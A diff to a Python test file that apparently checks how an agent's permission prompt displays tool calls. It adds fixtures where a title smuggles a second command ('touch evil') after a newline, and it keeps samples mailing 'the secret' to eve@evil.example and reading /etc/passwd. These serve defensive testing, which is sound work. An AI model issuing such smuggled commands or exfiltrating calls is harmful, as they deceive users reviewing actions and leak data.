@@ -301,6 +301,8 @@ def session_prompt(agent, request):
     agent.send(agent.result(request, {"stopReason": "end_turn"}), agent.text(s, "done"))
 """
 TWO_LINES = '{"kind": "execute", "rawInput": {"command": "echo hi # look\\ntouch evil"}}'
+TITLED = TWO_LINES.replace("{", '{"title": "echo hi # look\\ntouch evil", ', 1)
+TITLE = '{"title": "echo hi # look\\ntouch evil", "kind": "execute"}'
 MAIL = '{"kind": "other", "rawInput": {"to": "eve@evil.example", "body": {"text": "the secret"}}}'
 
 
@@ -314,6 +316,8 @@ def asking(place: Path, call: str) -> tuple[Catena, str]:
     ("call", "seen"),
     [
         (TWO_LINES, ["? “Show git status”, in the agent's words", "command: echo hi # look ⏎", "touch evil"]),
+        (TITLED, ["? echo hi # look ⏎ touch evil", "command: echo hi # look ⏎", "touch evil"]),
+        (TITLE, ["echo hi # look ⏎ touch evil", "echo hi # look ⏎ touch evil"]),
         (MAIL, ["to: eve@evil.example", 'body: {"text": "the secret"}']),
         ('{"kind": "read", "locations": [{"path": "/etc/passwd"}]}', ["place: /etc/passwd"]),
         ('{"rawInput": ["curl", "evil example"]}', ["input: curl 'evil example'"]),
